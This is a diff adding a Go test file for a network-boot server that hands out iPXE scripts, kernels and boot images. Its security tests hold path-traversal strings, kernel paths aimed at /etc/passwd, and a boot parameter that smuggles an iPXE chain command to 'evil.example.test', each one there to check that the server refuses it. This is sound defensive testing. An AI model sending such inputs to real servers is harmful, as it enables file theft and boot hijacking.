@@ -1,0 +1,237 @@
+package netboot
+
+import (
+	"bytes"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+
+	"salvor/metal"
+	"salvor/problem"
+)
+
+type site struct {
+	*httptest.Server
+	plans *plans
+	dir   string
+	log   *bytes.Buffer
+	saw   []string
+}
+
+// newSite serves a plan whose kernel and ramdisk lie in a directory of its own.
+func newSite(t *testing.T) *site {
+	t.Helper()
+	s := &site{plans: &plans{node: testNode()}, dir: t.TempDir(), log: &bytes.Buffer{}}
+	s.plans.node.Plan.Kernel, s.plans.node.Plan.Ramdisk = filepath.Join(s.dir, "kernel"), filepath.Join(s.dir, "ramdisk")
+	write(t, s.plans.node.Plan.Kernel, strings.Repeat("kernel ", 5000))
+	write(t, s.plans.node.Plan.Ramdisk, strings.Repeat("ramdisk", 9001))
+	srv, err := New(Config{Plans: s.plans, Token: testTokenOf, Roots: []string{s.dir}, Log: slog.New(slog.NewTextHandler(s.log, nil)),
+		Seen: func(_ *metal.Node, what string) { s.saw = append(s.saw, what) }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.Server = httptest.NewServer(srv.Handler())
+	t.Cleanup(func() { s.Close(); srv.images.close() })
+	return s
+}
+
+func write(t *testing.T, path, text string) {
+	t.Helper()
+	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// do asks without cleaning the path, as an attacker would.
+func (s *site) do(t *testing.T, method, path string, header ...string) (*http.Response, []byte) {
+	t.Helper()
+	req, err := http.NewRequest(method, s.URL, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.URL.Opaque = path
+	for i := 0; i < len(header); i += 2 {
+		req.Header.Set(header[i], header[i+1])
+	}
+	resp, err := s.Client().Transport.RoundTrip(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(resp.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return resp, body
+}
+
+func (s *site) get(t *testing.T, name string, header ...string) (*http.Response, []byte) {
+	t.Helper()
+	return s.do(t, http.MethodGet, metal.FilePrefix+testPath+"/"+name, header...)
+}
+
+func TestFilesOfAPlan(t *testing.T) {
+	s := newSite(t)
+	resp, body := s.get(t, "boot.ipxe")
+	if resp.StatusCode != 200 || !bytes.HasPrefix(body, []byte("#!ipxe\nkernel --name kernel kernel ")) || !bytes.Contains(body, []byte(" ipa-agent-token="+testToken+" ||")) {
+		t.Errorf("%d %s", resp.StatusCode, body)
+	}
+	if resp.Header.Get("Cache-Control") != "no-store" {
+		t.Error(resp.Header)
+	}
+	for name, want := range map[string]string{"kernel": strings.Repeat("kernel ", 5000), "ramdisk": strings.Repeat("ramdisk", 9001)} {
+		if resp, body := s.get(t, name); resp.StatusCode != 200 || string(body) != want {
+			t.Errorf("%s: %d, %d bytes", name, resp.StatusCode, len(body))
+		}
+	}
+	resp, body = s.do(t, http.MethodHead, metal.FilePrefix+testPath+"/kernel")
+	if resp.StatusCode != 200 || resp.ContentLength != 35000 || len(body) != 0 {
+		t.Errorf("HEAD: %d, %d bytes", resp.StatusCode, resp.ContentLength)
+	}
+	if strings.Join(s.saw, ",") != "fetching boot.ipxe,fetching kernel,fetching ramdisk" && len(s.saw) != 3 {
+		t.Errorf("seen %q", s.saw)
+	}
+	if s.log.Len() > 0 {
+		t.Errorf("logged %s", s.log)
+	}
+}
+
+// An image read in pieces is the image read at once: base plus this node's parameters.
+func TestImagesByRange(t *testing.T) {
+	s := newSite(t)
+	for _, name := range []string{"boot.iso", "boot.efi"} {
+		resp, whole := s.get(t, name)
+		if resp.StatusCode != 200 || resp.Header.Get("Accept-Ranges") != "bytes" {
+			t.Fatalf("%s: %d %s (packages isolinux, syslinux-common, systemd-boot-efi): %s", name, resp.StatusCode, whole, s.log)
+		}
+		if !bytes.Contains(whole, []byte("console=ttyS0 ipa-agent-token="+testToken)) || !bytes.Contains(whole, []byte(strings.Repeat("ramdisk", 9001))) {
+			t.Errorf("%s lacks parameters or ramdisk", name)
+		}
+		var pieced []byte
+		for at := 0; at < len(whole); at += 50_001 {
+			last := min(at+50_001, len(whole)) - 1
+			resp, piece := s.get(t, name, "Range", "bytes="+strconv.Itoa(at)+"-"+strconv.Itoa(last))
+			if resp.StatusCode != http.StatusPartialContent {
+				t.Fatalf("%s: %d", name, resp.StatusCode)
+			}
+			pieced = append(pieced, piece...)
+		}
+		if !bytes.Equal(pieced, whole) {
+			t.Errorf("%s in pieces differs", name)
+		}
+	}
+	if resp, _ := s.do(t, http.MethodHead, metal.FilePrefix+testPath+"/boot.efi"); resp.Header.Get("Content-Type") != "application/efi" || resp.ContentLength <= 0 {
+		t.Error(resp.Header)
+	}
+}
+
+func TestNothingElseIsServed(t *testing.T) {
+	s := newSite(t)
+	write(t, filepath.Join(s.dir, "secret"), "not for you")
+	for _, path := range []string{
+		"/boot/", "/boot/" + testPath, "/boot/" + testPath + "/", "/boot/" + testPath + "/secret", "/boot/" + testPath + "/../secret",
+		"/boot/" + testPath + "/kernel/", "/boot/" + testPath + "/%2e%2e%2fsecret", "/boot/" + testPath + "/..%2fsecret", "/boot/../" + testPath + "/kernel",
+		"/boot/" + testPath[:len(testPath)-1] + "X/kernel", "/boot//kernel", "/boot/x/kernel", "/boot/" + strings.Repeat("a", 200) + "/kernel", "/kernel", "/",
+		"/boot/" + testPath + "%00/kernel", "/boot/" + testPath + "/kernel%00",
+	} {
+		if resp, body := s.do(t, http.MethodGet, path); resp.StatusCode != 404 || string(body) != "Not Found\n" {
+			t.Errorf("%s: %d %s", path, resp.StatusCode, body)
+		}
+	}
+	for _, method := range []string{"POST", "PUT", "DELETE", "OPTIONS", "PATCH"} {
+		if resp, _ := s.do(t, method, metal.FilePrefix+testPath+"/kernel"); resp.StatusCode != 405 || resp.Header.Get("Allow") != "GET, HEAD" {
+			t.Errorf("%s: %d", method, resp.StatusCode)
+		}
+	}
+}
+
+func TestNothingIsServedAfterTheBoot(t *testing.T) {
+	s := newSite(t)
+	s.plans.node.BootNumber++
+	for _, name := range []string{"boot.ipxe", "kernel", "ramdisk", "boot.iso", "boot.efi"} {
+		if resp, body := s.get(t, name); resp.StatusCode != 404 || string(body) != "Not Found\n" {
+			t.Errorf("%s: %d %s", name, resp.StatusCode, body)
+		}
+	}
+}
+
+// A node's record names the kernel, and users write it: it must not read the conductor's files.
+func TestPlanCannotReadOtherFiles(t *testing.T) {
+	s := newSite(t)
+	other := filepath.Join(t.TempDir(), "secret")
+	write(t, other, "not for you")
+	link, pipe := filepath.Join(s.dir, "link"), filepath.Join(s.dir, "pipe")
+	if err := os.Symlink(other, link); err != nil {
+		t.Fatal(err)
+	}
+	if err := syscall.Mkfifo(pipe, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, path := range []string{other, link, pipe, s.dir, "kernel", s.dir + "/../" + filepath.Base(filepath.Dir(other)) + "/secret", "/etc/passwd", "/dev/zero", "", "file:///etc/passwd", s.dir + "/absent"} {
+		s.plans.node.Plan.Kernel = path
+		for _, name := range []string{"kernel", "boot.efi"} {
+			if resp, body := s.get(t, name); resp.StatusCode != 503 || string(body) != "Service Unavailable\n" {
+				t.Errorf("%s of %q: %d %s", name, path, resp.StatusCode, body)
+			}
+		}
+	}
+	if strings.Contains(s.log.String(), testToken) {
+		t.Error("the token is in the log")
+	}
+}
+
+func TestBadParametersAreNotServed(t *testing.T) {
+	s := newSite(t)
+	s.plans.node.Plan.Params = append(s.plans.node.Plan.Params, "x\nchain http://evil.example.test")
+	for _, name := range []string{"boot.ipxe", "boot.iso", "boot.efi"} {
+		if resp, body := s.get(t, name); resp.StatusCode != 503 {
+			t.Errorf("%s: %d %s", name, resp.StatusCode, body)
+		}
+	}
+	if strings.Contains(s.log.String(), testToken) || !strings.Contains(s.log.String(), "n1") {
+		t.Errorf("log: %s", s.log)
+	}
+}
+
+func TestStoreAwayIsUnavailable(t *testing.T) {
+	s := newSite(t)
+	s.plans.err = problem.Unavailablef("the store is away")
+	if resp, _ := s.get(t, "boot.ipxe"); resp.StatusCode != 503 {
+		t.Error(resp.StatusCode)
+	}
+}
+
+// A kernel by URL is fetched from there; ours is only named.
+func TestKernelByURL(t *testing.T) {
+	s := newSite(t)
+	s.plans.node.Plan.Kernel = "http://192.0.2.9/vmlinuz"
+	if _, body := s.get(t, "boot.ipxe"); !bytes.Contains(body, []byte("\nkernel --name kernel http://192.0.2.9/vmlinuz initrd=")) {
+		t.Errorf("%s", body)
+	}
+	if resp, _ := s.get(t, "kernel"); resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "http://192.0.2.9/vmlinuz" {
+		t.Errorf("%d %v", resp.StatusCode, resp.Header)
+	}
+}
+
+// A replaced ramdisk must not be served from a cached image, and old images are let go.
+func TestImagesFollowTheirFiles(t *testing.T) {
+	s := newSite(t)
+	for i := range maxImages + 3 {
+		text := strings.Repeat("r", 100+i) + strconv.Itoa(i)
+		tmp := filepath.Join(s.dir, "new")
+		write(t, tmp, text)
+		if err := os.Rename(tmp, s.plans.node.Plan.Ramdisk); err != nil {
+			t.Fatal(err)
+		}
+		if _, body := s.get(t, "boot.efi"); !bytes.Contains(body, []byte(text)) {
+			t.Errorf("image %d is an old one", i)
+		}
+	}
+}
